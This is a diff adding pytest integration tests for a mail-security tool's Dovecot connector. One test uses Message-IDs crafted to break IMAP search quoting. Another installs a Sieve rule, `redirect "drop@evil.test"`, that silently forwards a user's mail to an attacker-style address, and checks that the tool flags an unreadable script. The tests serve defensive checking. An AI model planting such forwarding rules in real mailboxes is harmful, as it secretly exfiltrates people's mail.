@@ -463,3 +463,68 @@ def test_blocking_a_sender_can_hold_its_mail_already_queued(lab, tmp_path):
         run.run(
             ["postsuper", "-c", str(lab.postfix.etc), "-d", "ALL"], capture_output=True
         )
+
+
+@pytest.mark.parametrize(
+    "message_id", ["ünï-1@odd.test", "a)b{5}@odd.test", 'quote"d\\@odd.test']
+)
+def test_a_message_id_imap_search_cannot_carry_is_still_found_and_moved_once(
+    lab, monkeypatch, message_id
+):
+    import hashlib
+
+    from heron.config import DovecotSettings
+    from heron.connectors.base import CopyRef, OutcomeStatus
+    from heron.connectors.dovecot import DovecotConnector
+    from heron.domain.verdicts import Location
+
+    (user,) = addresses("odd")
+    monkeypatch.setenv("HERON_SECRET_LAB", MASTER_PASSWORD)
+    raw = (
+        f"From: a@outside.test\r\nTo: {user}\r\nSubject: odd id\r\n"
+        f"Message-ID: <{message_id}>\r\n\r\nbody\r\n"
+    ).encode()
+    lab.dovecot.deliver(raw, "a@outside.test", [user])
+    connector = DovecotConnector(
+        DovecotSettings(**{**lab.connectors("odd")[0], "type": "dovecot"})
+    )
+    stored = [
+        f
+        for f, _ in connector.fetch_new(user, {})
+        if f and message_id.encode() in f.raw
+    ]
+    sha = hashlib.sha256(stored[-1].raw).hexdigest()
+    (found,) = connector.find(user, sha, message_id)
+    moved = connector.move(found, Location.DELETED, sha, message_id)
+    assert moved.status is OutcomeStatus.DONE
+    stale = CopyRef(user, found.locator, Location.INBOX)
+    assert connector.move(stale, Location.DELETED, sha, message_id).status is (
+        OutcomeStatus.ALREADY_THERE
+    )
+    assert connector.purge(moved.copy, sha, message_id).status is OutcomeStatus.DONE
+    assert connector.find(user, sha, message_id) == []
+
+
+def test_a_sieve_script_heron_cannot_read_is_an_error_not_a_clean_mailbox(
+    lab, monkeypatch
+):
+    from heron.config import DovecotSettings
+    from heron.connectors.dovecot import DovecotConnector
+    from heron.errors import ConnectorError
+
+    (user,) = addresses("odd")
+    monkeypatch.setenv("HERON_SECRET_LAB", MASTER_PASSWORD)
+    sieve = SieveClient("127.0.0.1", lab.dovecot.sieve_port)
+    assert sieve.connect(user, PASSWORD, starttls=False, authmech="PLAIN")
+    assert sieve.putscript('rules"1', 'redirect "drop@evil.test";\n')
+    connector = DovecotConnector(
+        DovecotSettings(**{**lab.connectors("odd")[0], "type": "dovecot"})
+    )
+    try:
+        with pytest.raises(ConnectorError, match="cannot be read"):
+            connector.forwarding(user, frozenset({DOMAIN}))
+        with pytest.raises(ConnectorError, match="cannot be read"):
+            connector.disable_forwarding(user, frozenset({DOMAIN}))
+    finally:
+        for name in sieve.listscripts()[1]:
+            sieve.deletescript(name)
